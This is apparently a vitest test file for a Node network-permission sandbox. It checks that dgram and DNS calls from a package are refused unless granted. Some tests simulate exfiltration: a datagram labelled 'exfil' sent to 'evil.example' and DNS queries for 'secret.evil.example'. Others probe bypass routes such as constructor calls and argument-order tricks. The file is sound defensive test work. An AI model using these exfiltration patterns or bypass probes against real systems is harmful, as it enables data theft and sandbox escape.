import { createSocket } from "node:dgram";
import { promisify } from "node:util";
import { createRequire } from "node:module";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { settle, testPackage } from "./net-context.ts";

const realDns = createRequire(import.meta.url)("node:dns");

describe("dgram", () => {
  // Bound before the guard is installed: the outside world.
  const sink = createSocket("udp4");
  let received = 0;
  let port = 0;
  beforeAll(async () => {
    await new Promise<void>((resolve) => sink.bind(0, "127.0.0.1", resolve));
    port = sink.address().port;
    sink.on("message", () => (received += 1));
  });
  afterAll(() => void sink.close());

  const sent = (socket: any, ...args: unknown[]): Promise<any> =>
    new Promise((resolve) => {
      socket.on("error", (error: Error) => (socket.close(), resolve(error)));
      socket.send("exfil", ...args, (error: Error | null) => (socket.close(), resolve(error)));
    });

  test("a datagram leaves only for what is granted, by number or by name", async () => {
    const bad = testPackage({ connect: ["127.0.0.1:1"] }).builtin("dgram");
    expect(await sent(bad.createSocket("udp4"), port, "127.0.0.1")).toMatchObject({ code: "EACCES", syscall: "send" });
    expect(
      await sent(
        bad.createSocket({ type: "udp4", lookup: (_h: any, _o: any, cb: Function) => cb(null, "127.0.0.1", 4) }),
        port,
        "evil.example",
      ),
    ).toMatchObject({ code: "ENOTFOUND" });
    expect(
      await sent(
        bad.createSocket({ type: "udp4", lookup: (_h: any, _o: any, cb: Function) => cb(null, "127.0.0.1", 4) }),
        port,
        "127.0.0.1",
      ),
    ).toMatchObject({ code: "EACCES" });
    const climbed = bad.createSocket("udp4");
    // It would look up whatever name it is to be bound to.
    expect(climbed.constructor.name).toBe("Socket");
    expect(() => new climbed.constructor("udp4")).toThrow(TypeError);
    climbed.close();
    await settle();
    expect(received).toBe(0);
    const good = testPackage({ connect: [`127.0.0.1:${port}`, `localhost:${port}`] }).builtin("dgram");
    expect(await sent(good.createSocket("udp4"), port, "127.0.0.1")).toBeNull();
    expect(await sent(good.createSocket("udp4"), port, "localhost")).toBeNull();
    await settle();
    expect(received).toBe(2);
  });

  test("a connected socket was checked when it connected", async () => {
    const before = received;
    const socket = testPackage({ connect: ["127.0.0.1:1"] })
      .builtin("dgram")
      .createSocket("udp4");
    const error = await new Promise((resolve) => {
      socket.on("error", resolve);
      socket.connect(port, "127.0.0.1", resolve);
    });
    expect(error).toMatchObject({ code: "EACCES" });
    socket.close();
    await settle();
    expect(received).toBe(before);
  });

  test("receiving on a fixed port needs a grant, and the star sends to no group", async () => {
    const dep = testPackage({ connect: ["*"] });
    const socket = dep.builtin("dgram").createSocket("udp4");
    const error = await new Promise((resolve) => {
      socket.on("error", resolve);
      socket.bind(39_751, "127.0.0.1", resolve);
    });
    expect(error).toMatchObject({ code: "EACCES" });
    socket.close();
    expect(await sent(dep.builtin("dgram").createSocket("udp4"), 5353, "224.0.0.251")).toMatchObject({
      code: "EACCES",
    });
  });

  test("a handle that is bound to what answers twice is bound to what was granted", () => {
    const socket = testPackage({ listen: ["127.0.0.1:39751"] })
      .builtin("dgram")
      .createSocket("udp4");
    const [state] = Object.getOwnPropertySymbols(socket).filter(({ description }) => description === "state symbol");
    const { handle } = socket[state!];
    const [addresses, ports] = [
      ["127.0.0.1", "0.0.0.0"],
      [39_751, 39_752],
    ];
    expect(handle.bind({ toString: () => addresses.shift() }, { valueOf: () => ports.shift() }, 0)).toBe(0);
    const bound = {};
    handle.getsockname(bound);
    expect(bound).toMatchObject({ address: "127.0.0.1", port: 39_751 });
    socket.close();
  });
});

describe("dns", () => {
  test("no query leaves for a name that is not granted", async () => {
    const spies = ["lookup", "resolve", "resolve4", "resolveTxt", "resolveAny", "reverse"].map((name) =>
      vi.spyOn(realDns, name),
    );
    const dep = testPackage({ connect: ["api.example.com:443"] });
    const dns = dep.builtin("dns");
    for (const name of ["lookup", "resolve", "resolve4", "resolveTxt", "resolveAny"]) {
      await expect(promisify(dns[name])("secret.evil.example")).rejects.toMatchObject({
        code: "ENOTFOUND",
        hostname: "secret.evil.example",
      });
      await expect(dns.promises[name]("secret.evil.example")).rejects.toMatchObject({ code: "ENOTFOUND" });
    }
    await expect(promisify(dns.reverse)("8.8.8.8")).rejects.toMatchObject({ code: "ENOTFOUND" });
    await expect(promisify(dns.lookupService)("8.8.8.8", 53)).rejects.toMatchObject({ code: "ENOTFOUND" });
    const resolver = new dns.Resolver();
    await expect(promisify(resolver.resolveTxt.bind(resolver))("secret.evil.example")).rejects.toMatchObject({
      code: "ENOTFOUND",
      syscall: "queryTxt",
    });
    // HAZARD: the callback is no last argument, and Node takes it all the same.
    const told = vi.fn();
    dns.resolve4("secret.evil.example", {}, told, 0);
    dns.resolve("secret.evil.example", "TXT", told, 0);
    dns.resolve("secret.evil.example", told, 0);
    resolver.resolve4("secret.evil.example", {}, told, 0);
    await vi.waitFor(() => expect(told).toHaveBeenCalledTimes(4));
    for (const [error] of told.mock.calls) expect(error).toMatchObject({ code: "ENOTFOUND" });
    expect(() => resolver.setServers(["127.0.0.1"])).toThrow(expect.objectContaining({ code: "ERR_ACCESS_DENIED" }));
    expect(() => dns.setServers(["127.0.0.1"])).toThrow(expect.objectContaining({ code: "ERR_ACCESS_DENIED" }));
    expect(dep.denials.every((denial) => denial.capability === "dns" || denial.capability === "builtin")).toBe(true);
    for (const spy of spies) expect(spy).not.toHaveBeenCalled();
    vi.restoreAllMocks();
  });

  test("a granted name is looked up in every style", async () => {
    const dns = testPackage({ connect: ["localhost:80"] }).builtin("dns");
    expect(await promisify(dns.lookup)("localhost", { family: 4 })).toEqual({ address: "127.0.0.1", family: 4 });
    expect(await dns.promises.lookup("LOCALHOST", { family: 4 })).toMatchObject({ family: 4 });
    expect(await dns.promises.lookup("127.0.0.1")).toEqual({ address: "127.0.0.1", family: 4 });
  });

  test("promises are the module of that name, and private to the principal", () => {
    const dep = testPackage({});
    expect(dep.builtin("dns").promises).toBe(dep.builtin("dns/promises"));
    expect(testPackage({}).builtin("dns")).not.toBe(dep.builtin("dns"));
  });
});
